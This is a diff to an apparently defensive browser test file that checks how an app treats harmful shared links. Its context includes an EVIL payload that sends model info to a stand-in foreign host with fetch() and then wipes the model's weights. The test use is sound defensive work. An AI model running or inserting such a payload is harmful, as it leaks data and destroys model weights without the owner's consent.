@@ -2,6 +2,7 @@
 import { writeFileSync } from 'node:fs';
 import { deflateRawSync } from 'node:zlib';
 import type { Page } from '@playwright/test';
+import { API_VERSION } from '../src/contract/index.ts';
 import { SITE_URL } from './server.ts';
 import { expect, test } from './support.ts';
 
@@ -10,7 +11,7 @@ const explorer = (operation: string, input: unknown) => `#/api/${operation}?inpu
 const linkedExperiment = (linked: unknown) => `#/computation/experiments?experiment=${packed(JSON.stringify(linked))}`;
 const FOREIGN = 'https://weights.example.com/model/';
 const EVIL = `fetch('${FOREIGN}?' + JSON.stringify(await client.get('model', 'info'))); await client.put('model', 'weights', {});`;
-const provenance = { model_id: 'x', weights_hash: 'x', code_revisions: {} };
+const provenance = { model_id: 'x', weights_hash: 'x', code_revisions: {}, contract: API_VERSION };
 
 /** What a harmful link is, and what the page says of it. */
 const LINKS: readonly [name: string, hash: string, says: RegExp][] = [
